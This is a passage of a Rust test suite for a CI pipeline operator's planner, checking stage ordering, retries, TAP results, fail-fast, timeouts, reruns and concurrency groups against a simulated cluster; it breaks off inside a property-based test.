//! Planner scenarios, driven through a tiny simulated cluster: the planner's
//! actions are applied to an in-memory Job list, tests decide how Jobs end.

use std::collections::BTreeMap;
use std::time::Duration;

use chrono::{DateTime, TimeZone, Utc};
use proptest::prelude::*;

use crate::api::common::ContainerRun;
use crate::api::pipelinerun::{Concurrency, Param};
use crate::api::pipelinerun::{
    ConcurrencyPolicy, PipelineRunSpec, PipelineRunStatus, ResultsFormat, RunPhase, SkipReason, Stage, StagePhase,
    StageStatus,
};
use crate::engine::job::JobOutcome;
use crate::engine::job::JobState;
use crate::engine::note::Note;
use crate::engine::pipelinerun::launch::StageLaunch;
use crate::engine::pipelinerun::plan::*;
use crate::engine::pipelinerun::references::Referenced;
use crate::engine::pipelinerun::view::GroupMember;
use crate::engine::pipelinerun::view::{failures_to_explain, logs_wanted, JobObservation, Observed, View};
use crate::engine::pipelinerun::CONDITION_SUCCEEDED;
use crate::engine::settings::Settings;

/// The simulated run's `metadata.uid`.
const UID: &str = "4a1c2e7b-0d3f-4e5a-8b9c-1d2e3f4a5b6c";

/// The Job the planner names for `stage`'s `attempt` of the simulated run.
fn job(stage: &str, attempt: u32) -> String {
    crate::engine::naming::job_name("run", UID, stage, attempt)
}

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap()
}

fn stage(name: &str, needs: &[&str]) -> Stage {
    Stage {
        name: name.into(),
        needs: needs.iter().map(|s| s.to_string()).collect(),
        run: Some(ContainerRun { image: Some("local/busybox:1".into()), ..Default::default() }),
        ..Default::default()
    }
}

fn spec(stages: Vec<Stage>) -> PipelineRunSpec {
    PipelineRunSpec { stages, ..Default::default() }
}

struct Sim {
    spec: PipelineRunSpec,
    status: PipelineRunStatus,
    observed: Observed,
    now: DateTime<Utc>,
    rerun: Option<String>,
    superseded_by: Option<String>,
    settings: Settings,
    created_jobs: Vec<String>,
    deleted_jobs: Vec<String>,
    notes: Vec<Note>,
    last: Option<Plan>,
}

impl Sim {
    fn new(spec: PipelineRunSpec) -> Self {
        Sim {
            spec,
            status: PipelineRunStatus::default(),
            observed: Observed::default(),
            now: t0(),
            rerun: None,
            superseded_by: None,
            settings: Settings::default(),
            created_jobs: Vec::new(),
            deleted_jobs: Vec::new(),
            notes: Vec::new(),
            last: None,
        }
    }

    /// One reconcile: plan, then apply the actions to the simulated cluster.
    fn step(&mut self) -> &Plan {
        let view = View {
            name: "run",
            uid: UID,
            generation: Some(1),
            created: t0(),
            spec: &self.spec,
            status: &self.status,
            rerun: self.rerun.as_deref(),
            superseded_by: self.superseded_by.as_deref(),
            settings: &self.settings,
        };
        let plan = plan(&view, &self.observed, self.now);
        for action in &plan.actions {
            match action {
                Action::CreateJob(l) => {
                    assert!(
                        self.observed.jobs.iter().all(|j| j.outcome.name != l.job_name),
                        "Job {} created twice",
                        l.job_name
                    );
                    self.created_jobs.push(l.job_name.clone());
                    self.observed.jobs.push(JobObservation {
                        stage: l.stage.clone(),
                        attempt: l.attempt,
                        outcome: JobOutcome { name: l.job_name.clone(), created: Some(self.now), ..Default::default() },
                    });
                }
                Action::DeleteJob { name } => {
                    self.deleted_jobs.push(name.clone());
                    self.observed.jobs.retain(|j| &j.outcome.name != name);
                }
                Action::ClearRerunAnnotation => self.rerun = None,
                _ => {}
            }
        }
        self.status = plan.status.clone();
        self.notes.extend(plan.notes.clone());
        self.last = Some(plan);
        self.last.as_ref().unwrap()
    }

    fn finish(&mut self, stage: &str, state: JobState, outputs: &str) {
        let attempt = self.observed.latest_attempt(stage).unwrap_or_else(|| panic!("{stage} has no Job"));
        let job = self.observed.jobs.iter_mut().find(|j| j.stage == stage && j.attempt == attempt).unwrap();
        assert_eq!(job.outcome.state, JobState::Active, "{stage} attempt {attempt} already finished");
        job.outcome.state = state;
        job.outcome.finished = Some(self.now);
        job.outcome.outputs = (!outputs.is_empty()).then(|| outputs.to_string());
        job.outcome.pod = Some(format!("{}-x", job.outcome.name));
        if state == JobState::Failed {
            job.outcome.message =
                Some(format!("container stage in pod {}-x exited with code 1 (Error)", job.outcome.name));
        }
    }

    fn succeed(&mut self, stage: &str) {
        self.finish(stage, JobState::Succeeded, "");
    }

    fn fail(&mut self, stage: &str) {
        self.finish(stage, JobState::Failed, "");
    }

    fn stage(&self, name: &str) -> &StageStatus {
        self.status.stages.iter().find(|s| s.name == name).unwrap()
    }

    fn phase(&self, name: &str) -> StagePhase {
        self.stage(name).phase
    }

    fn running(&self) -> Vec<String> {
        self.status.stages.iter().filter(|s| s.phase == StagePhase::Running).map(|s| s.name.clone()).collect()
    }

    fn condition(&self) -> (String, String) {
        let c = self.status.conditions.iter().find(|c| c.type_ == CONDITION_SUCCEEDED).expect("Succeeded condition");
        (c.status.clone(), c.reason.clone())
    }

    fn advance(&mut self, secs: i64) {
        self.now += chrono::Duration::seconds(secs);
    }

    fn launches(&self) -> Vec<StageLaunch> {
        self.last
            .as_ref()
            .unwrap()
            .actions
            .iter()
            .filter_map(|a| match a {
                Action::CreateJob(l) => Some((**l).clone()),
                _ => None,
            })
            .collect()
    }
}

fn env_of(l: &StageLaunch, name: &str) -> Option<String> {
    l.env.iter().find(|e| e.name == name).and_then(|e| e.value.clone())
}

#[test]
fn stages_run_in_dependency_order_and_the_run_succeeds() {
    let mut sim =
        Sim::new(spec(vec![stage("b", &["a"]), stage("a", &[]), stage("c", &["a"]), stage("d", &["b", "c"])]));
    sim.step();
    assert_eq!(sim.running(), ["a"]);
    assert_eq!(sim.status.phase, Some(RunPhase::Running));
    assert_eq!(sim.status.progress.as_deref(), Some("0/4"));
    assert_eq!(sim.condition(), ("Unknown".into(), "Running".into()));
    sim.succeed("a");
    sim.step();
    assert_eq!(sim.running(), ["b", "c"]);
    assert_eq!(sim.status.current_stage.as_deref(), Some("b,c"));
    sim.succeed("b");
    sim.step();
    assert_eq!(sim.running(), ["c"], "d waits for c");
    sim.succeed("c");
    sim.step();
    assert_eq!(sim.running(), ["d"]);
    sim.succeed("d");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert_eq!(sim.condition(), ("True".into(), "Succeeded".into()));
    assert_eq!(sim.status.progress.as_deref(), Some("4/4"));
    assert!(sim.status.completion_time.is_some());
    assert_eq!(sim.created_jobs, [job("a", 1), job("b", 1), job("c", 1), job("d", 1)]);
    // A finished run plans nothing more.
    let plan = sim.step().clone();
    assert!(plan.actions.is_empty());
    assert!(plan.notes.is_empty());
}

#[test]
fn outputs_and_params_reach_later_stages() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut consumer = stage("packages", &["sdk"]);
    consumer.run = Some(ContainerRun {
        image: Some("$(stages.sdk.outputs.image)".into()),
        args: vec!["--arch=$(params.arch)".into()],
        ..Default::default()
    });
    let mut s = spec(vec![producer, consumer]);
    s.params = vec![Param { name: "arch".into(), value: "amd64".into() }];
    let mut sim = Sim::new(s);
    sim.step();
    let sdk = &sim.launches()[0];
    assert_eq!(env_of(sdk, "GANTRY_PARAM_ARCH").as_deref(), Some("amd64"));
    assert_eq!(env_of(sdk, "GANTRY_OUTPUTS").as_deref(), Some("/dev/termination-log"));
    assert_eq!(env_of(sdk, "GANTRY_STAGE").as_deref(), Some("sdk"));
    sim.finish("sdk", JobState::Succeeded, "image=registry/sdk:3145\n");
    sim.step();
    assert_eq!(sim.stage("sdk").outputs.get("image").map(String::as_str), Some("registry/sdk:3145"));
    let packages = &sim.launches()[0];
    assert_eq!(packages.image, "registry/sdk:3145");
    assert_eq!(packages.args, ["--arch=amd64"]);
    assert_eq!(env_of(packages, "GANTRY_OUTPUT_SDK_IMAGE").as_deref(), Some("registry/sdk:3145"));
}

#[test]
fn an_undeclared_output_fails_the_stage_with_a_message_naming_it() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut sim = Sim::new(spec(vec![producer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "imgae=x\n");
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Failed);
    assert!(sim.stage("sdk").message.as_deref().unwrap().contains("imgae"), "{:?}", sim.stage("sdk").message);
}

#[test]
fn a_missing_output_fails_the_consumer_without_creating_its_job() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut consumer = stage("packages", &["sdk"]);
    consumer.run.as_mut().unwrap().image = Some("$(stages.sdk.outputs.image)".into());
    let mut sim = Sim::new(spec(vec![producer, consumer]));
    sim.step();
    sim.succeed("sdk"); // wrote nothing
    sim.step();
    assert_eq!(sim.phase("packages"), StagePhase::Failed);
    assert!(sim.stage("packages").message.as_deref().unwrap().contains("$(stages.sdk.outputs.image) has no value"));
    assert_eq!(sim.created_jobs, [job("sdk", 1)]);
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
}

#[test]
fn a_stage_reporting_skip_skips_its_dependents_but_the_run_succeeds() {
    let mut check = stage("changes", &[]);
    check.outputs = vec!["version".into()];
    let mut sim =
        Sim::new(spec(vec![check, stage("build", &["changes"]), stage("publish", &["build"]), stage("lint", &[])]));
    sim.step();
    sim.finish("changes", JobState::Succeeded, "skip=true\n");
    sim.succeed("lint");
    sim.step();
    assert_eq!(sim.phase("changes"), StagePhase::Skipped);
    assert_eq!(sim.stage("changes").skip_reason, Some(SkipReason::Requested));
    assert_eq!(sim.phase("build"), StagePhase::Skipped);
    assert_eq!(sim.phase("publish"), StagePhase::Skipped);
    assert_eq!(sim.stage("publish").skip_reason, Some(SkipReason::Upstream));
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert_eq!(sim.created_jobs, [job("changes", 1), job("lint", 1)]);
}

#[test]
fn listed_skips_count_as_success_and_dependents_still_run() {
    let mut s = spec(vec![stage("a", &[]), stage("vms", &["a"]), stage("after", &["vms"])]);
    s.skip = vec!["vms".into()];
    let mut sim = Sim::new(s);
    sim.step();
    sim.succeed("a");
    sim.step();
    assert_eq!(sim.phase("vms"), StagePhase::Skipped);
    assert_eq!(sim.running(), ["after"]);
    sim.succeed("after");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
}

#[test]
fn a_failed_attempt_is_retried_with_backoff_and_history_is_kept() {
    let mut flaky = stage("test", &[]);
    flaky.retries = Some(2);
    flaky.retry_delay_seconds = Some(5);
    let mut sim = Sim::new(spec(vec![flaky]));
    sim.step();
    sim.fail("test");
    let plan = sim.step().clone();
    assert_eq!(sim.phase("test"), StagePhase::Waiting);
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(5)));
    assert!(sim.notes.iter().any(|n| n.reason == "StageRetrying"));
    sim.advance(4);
    sim.step();
    assert_eq!(sim.phase("test"), StagePhase::Waiting, "the delay has not passed");
    sim.advance(1);
    sim.step();
    assert_eq!(sim.phase("test"), StagePhase::Running);
    assert_eq!(sim.stage("test").attempt, 2);
    sim.fail("test");
    let plan = sim.step().clone();
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(10)), "the delay doubles");
    sim.advance(10);
    sim.step();
    sim.fail("test");
    sim.step();
    assert_eq!(sim.phase("test"), StagePhase::Failed, "2 retries used up");
    assert_eq!(sim.created_jobs, [job("test", 1), job("test", 2), job("test", 3)]);
    let history: Vec<u32> = sim.stage("test").history.iter().map(|h| h.attempt).collect();
    assert_eq!(history, [1, 2, 3]);
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
    assert_eq!(sim.condition(), ("False".into(), "Failed".into()));
    assert!(sim.status.message.as_deref().unwrap().contains("exited with code 1"));
}

#[test]
fn a_failure_whose_pods_are_gone_is_explained_once_before_it_is_recorded() {
    let mut sim = Sim::new(spec(vec![stage("pull", &[]), stage("after", &["pull"])]));
    sim.step();
    sim.finish("pull", JobState::Failed, "");
    let job = sim.observed.jobs.iter_mut().find(|j| j.stage == "pull").unwrap();
    job.outcome.pod = None;
    job.outcome.message = Some("DeadlineExceeded: Job was active longer than specified deadline".into());
    let wanted = |sim: &Sim| {
        let view = View {
            name: "run",
            uid: UID,
            generation: Some(1),
            created: t0(),
            spec: &sim.spec,
            status: &sim.status,
            rerun: None,
            superseded_by: None,
            settings: &sim.settings,
        };
        failures_to_explain(&view, &sim.observed)
    };
    assert_eq!(wanted(&sim), [self::job("pull", 1)]);
    let job = sim.observed.jobs.iter_mut().find(|j| j.stage == "pull").unwrap();
    job.outcome.message.as_mut().unwrap().push_str("; last pod event: Failed: Failed to pull image");
    sim.step();
    assert_eq!(sim.phase("pull"), StagePhase::Failed);
    assert!(sim.stage("pull").message.as_deref().unwrap().ends_with("last pod event: Failed: Failed to pull image"));
    assert!(wanted(&sim).is_empty(), "a recorded failure is not explained again");
}

#[test]
fn tap_results_merge_across_attempts_a_test_passing_once_passes() {
    let mut kola = stage("kola", &[]);
    kola.retries = Some(1);
    kola.retry_delay_seconds = Some(1);
    kola.results = Some(ResultsFormat::Tap);
    let mut sim = Sim::new(spec(vec![kola]));
    sim.step();
    sim.fail("kola");
    sim.observed.logs.insert(job("kola", 1), "1..3\nok 1 - boot\nnot ok 2 - network\nok 3 - update\n".into());
    let view_status = sim.status.clone();
    let view = View {
        name: "run",
        uid: UID,
        generation: Some(1),
        created: t0(),
        spec: &sim.spec,
        status: &view_status,
        rerun: None,
        superseded_by: None,
        settings: &sim.settings,
    };
    assert_eq!(logs_wanted(&view, &sim.observed), [job("kola", 1)]);
    sim.step();
    assert_eq!(sim.phase("kola"), StagePhase::Waiting);
    assert_eq!(sim.stage("kola").tests.as_ref().unwrap().failed, 1);
    sim.advance(1);
    sim.step();
    sim.fail("kola"); // the rerun of the failed test exits non-zero for another reason...
    sim.observed.logs.insert(job("kola", 2), "1..1\nok 1 - network\n".into());
    sim.step();
    // ...but every test has passed in some attempt, so the stage passes.
    assert_eq!(sim.phase("kola"), StagePhase::Succeeded);
    let tests = sim.stage("kola").tests.clone().unwrap();
    assert_eq!((tests.passed, tests.failed), (3, 0));
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
}

#[test]
fn tap_failures_in_every_attempt_fail_the_stage_naming_the_test() {
    let mut kola = stage("kola", &[]);
    kola.results = Some(ResultsFormat::Tap);
    let mut sim = Sim::new(spec(vec![kola]));
    sim.step();
    sim.succeed("kola"); // exit 0, but the TAP says otherwise
    sim.observed.logs.insert(job("kola", 1), "1..2\nok 1 - boot\nnot ok 2 - network\n".into());
    sim.step();
    assert_eq!(sim.phase("kola"), StagePhase::Failed);
    let tests = sim.stage("kola").tests.clone().unwrap();
    assert_eq!(tests.failed_names, ["network"]);
}

#[test]
fn a_tap_verdict_from_a_cut_log_says_the_log_was_cut() {
    let mut kola = stage("kola", &[]);
    kola.results = Some(ResultsFormat::Tap);
    let mut sim = Sim::new(spec(vec![kola]));
    sim.step();
    sim.succeed("kola");
    // Tests 1 to 4 were in the part of the log the operator did not read.
    sim.observed.logs.insert(job("kola", 1), "ok 5 - boot\n1..5\n".into());
    sim.observed.logs_cut.insert(job("kola", 1));
    sim.step();
    assert_eq!(sim.phase("kola"), StagePhase::Failed);
    let message = sim.stage("kola").message.clone().unwrap_or_default();
    assert!(message.contains("the log is longer than 4 MiB: TAP was read from its last 4 MiB"), "{message}");
}

#[test]
fn fail_fast_cancels_running_siblings_and_pending_stages_but_runs_finally() {
    let mut report = stage("report", &[]);
    report.finally = true;
    let mut s = spec(vec![
        stage("build", &[]),
        stage("publish", &["build"]),
        stage("install", &["publish"]),
        stage("systest", &[]),
        report,
    ]);
    s.fail_fast = true;
    let mut sim = Sim::new(s);
    sim.step();
    assert_eq!(sim.running(), ["build", "systest"]);
    sim.fail("build");
    sim.step();
    assert_eq!(sim.phase("build"), StagePhase::Failed);
    assert_eq!(sim.phase("systest"), StagePhase::Cancelled, "the running sibling is stopped");
    assert_eq!(sim.deleted_jobs, [job("systest", 1)]);
    assert_eq!(sim.phase("publish"), StagePhase::Cancelled);
    assert!(sim.stage("systest").message.as_deref().unwrap().contains("fail-fast: stage build failed"));
    assert_eq!(sim.running(), ["report"], "finally stages still run");
    sim.succeed("report");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
}

#[test]
fn without_fail_fast_independent_branches_finish_and_dependents_are_cancelled() {
    let mut sim = Sim::new(spec(vec![stage("build", &[]), stage("publish", &["build"]), stage("systest", &[])]));
    sim.step();
    sim.fail("build");
    sim.step();
    assert_eq!(sim.phase("publish"), StagePhase::Cancelled);
    assert_eq!(sim.phase("systest"), StagePhase::Running, "the independent branch goes on");
    sim.succeed("systest");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
}

#[test]
fn a_non_gating_failure_does_not_fail_the_run_and_skips_its_dependents() {
    let mut optional = stage("arm64", &[]);
    optional.gating = Some(false);
    let mut sim = Sim::new(spec(vec![stage("amd64", &[]), optional, stage("arm64-upload", &["arm64"])]));
    sim.step();
    sim.succeed("amd64");
    sim.fail("arm64");
    sim.step();
    assert_eq!(sim.phase("arm64"), StagePhase::Failed);
    assert_eq!(sim.phase("arm64-upload"), StagePhase::Skipped);
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert!(sim.status.message.as_deref().unwrap().contains("1 non-gating failed"));
}

#[test]
fn finally_stages_wait_for_everything_and_run_after_failure() {
    let mut report = stage("report", &[]);
    report.finally = true;
    let mut sim = Sim::new(spec(vec![stage("a", &[]), stage("b", &["a"]), report]));
    sim.step();
    assert_eq!(sim.running(), ["a"]);
    sim.fail("a");
    sim.step();
    assert_eq!(sim.running(), ["report"]);
    sim.succeed("report");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
}

#[test]
fn cancel_stops_every_job_and_ends_cancelled() {
    let mut report = stage("report", &[]);
    report.finally = true;
    let mut sim = Sim::new(spec(vec![stage("a", &[]), stage("b", &[]), stage("c", &["a"]), report]));
    sim.step();
    sim.spec.cancel = true;
    sim.step();
    assert_eq!(sim.deleted_jobs, [job("a", 1), job("b", 1)]);
    for s in ["a", "b", "c", "report"] {
        assert_eq!(sim.phase(s), StagePhase::Cancelled, "{s}");
    }
    assert_eq!(sim.status.phase, Some(RunPhase::Cancelled));
    assert_eq!(sim.condition(), ("False".into(), "Cancelled".into()));
}

#[test]
fn the_run_timeout_counts_from_creation_and_covers_pending_time() {
    let mut s = spec(vec![stage("a", &[]), stage("b", &["a"])]);
    s.timeout = Some("10m".into());
    let mut sim = Sim::new(s);
    let plan = sim.step().clone();
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(600)));
    sim.advance(600);
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
    assert_eq!(sim.condition(), ("False".into(), "TimedOut".into()));
    assert_eq!(sim.deleted_jobs, [job("a", 1)]);
}

#[test]
fn a_stage_stuck_pending_past_its_timeout_is_stopped_by_the_operator_clock() {
    let mut slow = stage("a", &[]);
    slow.timeout = Some("1m".into());
    let mut sim = Sim::new(spec(vec![slow]));
    sim.step();
    assert_eq!(sim.launches()[0].timeout, Some(Duration::from_secs(60)), "activeDeadlineSeconds is set");
    sim.advance(60);
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Running, "the Job's own deadline gets a grace period");
    sim.advance(30);
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Failed);
    assert_eq!(sim.deleted_jobs, [job("a", 1)]);
    assert!(sim.stage("a").message.as_deref().unwrap().contains("timed out after 1m"));
}

#[test]
fn the_admins_default_timeout_applies_when_a_run_sets_none() {
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.settings.default_stage_timeout = Some(Duration::from_secs(7200));
    sim.step();
    assert_eq!(sim.launches()[0].timeout, Some(Duration::from_secs(7200)));
}

#[test]
fn nested_virt_is_refused_unless_the_policy_allows_it_then_placed() {
    let mut virt = stage("kola", &[]);
    virt.nested_virt = true;
    let mut refused = Sim::new(spec(vec![virt.clone()]));
    refused.step();
    assert_eq!(refused.condition().1, "InvalidSpec");
    assert!(refused.created_jobs.is_empty());

    let mut allowed = Sim::new(spec(vec![virt, stage("plain", &[])]));
    let placement = crate::engine::launch::NestedVirtPlacement {
        node_selector: BTreeMap::from([("kvm".to_string(), "true".to_string())]),
        device_resource: Some("devices.kubevirt.io/kvm".into()),
    };
    allowed.settings.nested_virt = Some(placement.clone());
    allowed.step();
    let launches = allowed.launches();
    assert_eq!(launches[0].nested_virt, Some(placement));
    assert_eq!(launches[1].nested_virt, None, "only stages that ask get it");
}

#[test]
fn rerun_resets_the_stage_and_downstream_keeping_earlier_attempts() {
    let mut sim = Sim::new(spec(vec![stage("a", &[]), stage("b", &["a"]), stage("c", &["b"]), stage("x", &["a"])]));
    sim.step();
    sim.succeed("a");
    sim.step();
    sim.succeed("b");
    sim.succeed("x");
    sim.step();
    sim.succeed("c");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    sim.rerun = Some("b".into());
    sim.step();
    assert!(sim.rerun.is_none(), "the annotation is cleared");
    assert_eq!(sim.running(), ["b"]);
    assert_eq!(sim.phase("c"), StagePhase::Pending);
    assert_eq!(sim.phase("a"), StagePhase::Succeeded, "upstream stays");
    assert_eq!(sim.phase("x"), StagePhase::Succeeded, "siblings stay");
    assert_eq!(sim.stage("b").attempt, 2);
    assert_eq!(sim.status.phase, Some(RunPhase::Running));
    assert_eq!(sim.condition().0, "Unknown");
    sim.succeed("b");
    sim.step();
    sim.succeed("c");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert_eq!(sim.created_jobs, [job("a", 1), job("b", 1), job("x", 1), job("c", 1), job("b", 2), job("c", 2)]);
    let history: Vec<u32> = sim.stage("b").history.iter().map(|h| h.attempt).collect();
    assert_eq!(history, [1, 2], "earlier attempts stay visible");
}

#[test]
fn a_rerun_whose_status_write_failed_is_not_lost_and_makes_no_second_job() {
    let mut sim = Sim::new(spec(vec![stage("a", &[]), stage("b", &["a"])]));
    sim.step();
    sim.succeed("a");
    sim.step();
    sim.succeed("b");
    sim.step();
    let finished = sim.status.clone();
    sim.rerun = Some("b".into());
    sim.step();
    assert_eq!(sim.created_jobs.last(), Some(&job("b", 2)));
    // The status write failed, so the controller kept the annotation (it
    // clears it only after the write): the next reconcile sees both again.
    sim.status = finished;
    sim.rerun = Some("b".into());
    sim.step(); // panics if b's second Job were created twice
    assert_eq!(sim.running(), ["b"], "the rerun still happens");
    assert_eq!(sim.stage("b").attempt, 2, "the Job created before the lost write is adopted");
    assert!(sim.rerun.is_none());
    sim.succeed("b");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert_eq!(sim.created_jobs, [job("a", 1), job("b", 1), job("b", 2)]);
}

#[test]
fn rerun_of_a_running_run_or_unknown_stage_is_ignored_with_a_warning() {
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.rerun = Some("a".into());
    sim.step();
    assert!(sim.rerun.is_none());
    assert!(sim.notes.iter().any(|n| n.reason == "RerunIgnored" && n.warning));
    assert_eq!(sim.created_jobs, [job("a", 1)]);
    sim.succeed("a");
    sim.step();
    sim.rerun = Some("nope".into());
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert!(sim.notes.iter().filter(|n| n.reason == "RerunIgnored").count() == 2);
}

#[test]
fn a_lost_status_write_never_creates_a_second_job() {
    let mut sim = Sim::new(spec(vec![stage("a", &[]), stage("b", &["a"])]));
    sim.step();
    // The operator crashed after creating the Job but before writing status.
    sim.status = PipelineRunStatus::default();
    sim.step();
    assert_eq!(sim.created_jobs, [job("a", 1)], "the existing Job is adopted");
    assert_eq!(sim.phase("a"), StagePhase::Running);
    sim.succeed("a");
    sim.status = PipelineRunStatus::default();
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Succeeded, "the result is not lost");
    assert_eq!(sim.created_jobs, [job("a", 1), job("b", 1)]);
}

#[test]
fn a_deleted_job_counts_as_a_failed_attempt() {
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.observed.jobs.clear();
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Failed);
    assert!(sim.stage("a").message.as_deref().unwrap().contains("disappeared"));
}

#[test]
fn an_invalid_spec_fails_with_invalid_spec_and_creates_nothing() {
    let mut sim = Sim::new(spec(vec![stage("a", &["b"]), stage("b", &["a"])]));
    let plan = sim.step().clone();
    assert!(plan.actions.is_empty());
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
    assert_eq!(sim.condition(), ("False".into(), "InvalidSpec".into()));
    assert!(sim.status.message.as_deref().unwrap().contains("cycle"), "{:?}", sim.status.message);
    assert!(plan.notes.iter().any(|n| n.reason == "InvalidSpec"));
}

#[test]
fn ttl_deletes_the_run_after_it_finished() {
    let mut s = spec(vec![stage("a", &[])]);
    s.ttl_seconds_after_finished = Some(60);
    let mut sim = Sim::new(s);
    sim.step();
    sim.succeed("a");
    let plan = sim.step().clone();
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(60)));
    sim.advance(59);
    assert!(!sim.step().actions.contains(&Action::DeleteRun));
    sim.advance(1);
    assert!(sim.step().actions.contains(&Action::DeleteRun));
}

fn member(name: &str, created_secs: i64, finished: bool) -> GroupMember {
    GroupMember {
        name: name.into(),
        created: t0() + chrono::Duration::seconds(created_secs),
        started: None,
        finished,
        superseded: false,
        policy: ConcurrencyPolicy::Queue,
    }
}

#[test]
fn queue_waits_for_older_runs_of_the_group() {
    let mut s = spec(vec![stage("a", &[])]);
    s.concurrency = Some(Concurrency { group: "main".into(), policy: ConcurrencyPolicy::Queue });
    let mut sim = Sim::new(s);
    sim.observed.group = vec![member("older", -10, false), member("newer", 10, false)];
    let plan = sim.step().clone();
    assert_eq!(sim.status.phase, Some(RunPhase::Queued));
    assert_eq!(sim.condition(), ("Unknown".into(), "Queued".into()));
    assert!(sim.created_jobs.is_empty());
    assert_eq!(plan.requeue_after, Some(QUEUE_POLL));
    sim.observed.group[0].finished = true;
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Running), "the newer run does not block an older one");
    assert_eq!(sim.created_jobs, [job("a", 1)]);
}

#[test]
fn within_the_same_second_a_started_run_counts_as_older() {
    let mut s = spec(vec![stage("a", &[])]);
    s.concurrency = Some(Concurrency { group: "pr-42".into(), policy: ConcurrencyPolicy::CancelRunning });
    let mut sim = Sim::new(s);
    // Same creation second; "zzz" sorts after "run" by name but already runs.
    let mut running = member("zzz", 0, false);
    running.started = Some(t0());
    sim.observed.group = vec![running];
    let plan = sim.step().clone();
    assert!(plan.actions.contains(&Action::Supersede { run: "zzz".into() }));
}

#[test]
fn cancel_running_supersedes_older_runs_and_a_superseded_run_cancels() {
    let mut s = spec(vec![stage("a", &[])]);
    s.concurrency = Some(Concurrency { group: "pr-42".into(), policy: ConcurrencyPolicy::CancelRunning });
    let mut sim = Sim::new(s);
    sim.observed.group = vec![member("older", -10, false), member("done", -20, true)];
    let plan = sim.step().clone();
    assert!(plan.actions.contains(&Action::Supersede { run: "older".into() }));
    assert!(!plan.actions.contains(&Action::Supersede { run: "done".into() }));
    assert_eq!(sim.running(), ["a"]);
    sim.superseded_by = Some("newest".into());
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Cancelled));
    assert!(sim.status.message.as_deref().unwrap().contains("superseded by run newest"));
}

#[test]
fn events_report_every_stage_transition() {
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.succeed("a");
    sim.step();
    let reasons: Vec<&str> = sim.notes.iter().map(|n| n.reason.as_str()).collect();
    assert_eq!(reasons, ["StageStarted", "RunRunning", "StageSucceeded", "RunSucceeded"]);
}

#[test]
fn status_stays_bounded_under_many_retries_and_long_messages() {
    let mut flaky = stage("a", &[]);
    flaky.retries = Some(10);
    flaky.retry_delay_seconds = Some(1);
    let mut sim = Sim::new(spec(vec![flaky]));
    sim.step();
    for _ in 0..11 {
        let job = sim.observed.jobs.last_mut().unwrap();
        job.outcome.state = JobState::Failed;
        job.outcome.message = Some("x".repeat(100_000));
        sim.step();
        sim.advance(700);
        sim.step();
    }
    assert_eq!(sim.phase("a"), StagePhase::Failed);
    assert!(sim.stage("a").history.len() <= MAX_HISTORY);
    let size = serde_json::to_string(&sim.status).unwrap().len();
    assert!(size < 16 * 1024, "status is {size} bytes");
}

/// Random pipelines with random outcomes, driven to the end.
fn scenario() -> impl Strategy<Value = (PipelineRunSpec, Vec<bool>, bool)> {
    (1usize..12).prop_flat_map(|n| {
        (
            proptest::collection::vec(proptest::collection::vec(any::<prop::sample::Index>(), 0..3), n),
            proptest::collection::vec((0u32..3, any::<bool>(), any::<bool>()), n),
            proptest::collection::vec(any::<bool>(), 64),
            any::<bool>(),
        )
            .prop_map(move |(picks, opts, outcomes, fail_fast)| {
                let stages = (0..n)
                    .map(|i| {
                        let needs: Vec<String> = if i == 0 {
                            vec![]
                        } else {
                            picks[i].iter().map(|ix| format!("s{}", ix.index(i))).collect()
                        };
                        let mut s = stage(&format!("s{i}"), &[]);
                        s.needs = needs;
                        s.retries = Some(opts[i].0);
                        s.retry_delay_seconds = Some(1);
                        s.gating = Some(opts[i].1);
                        s.finally = opts[i].2 && i == n - 1;
                        if s.finally {
                            s.needs.clear();
                        }
                        s
                    })
                    .collect();
                let mut s = spec(stages);
                s.fail_fast = fail_fast;
                (s, outcomes, fail_fast)
            })
    })
}

proptest! {
    #[test]
    fn every_run_finishes_consistently((spec, outcomes, _fail_fast) in scenario()) {
        let mut sim = Sim::new(spec.clone());
        let mut draws = outcomes.into_iter().cycle();
        for _ in 0..200 {
            sim.step();
            if sim.status.phase.is_some_and(RunPhase::is_finished) {
                break;
            }
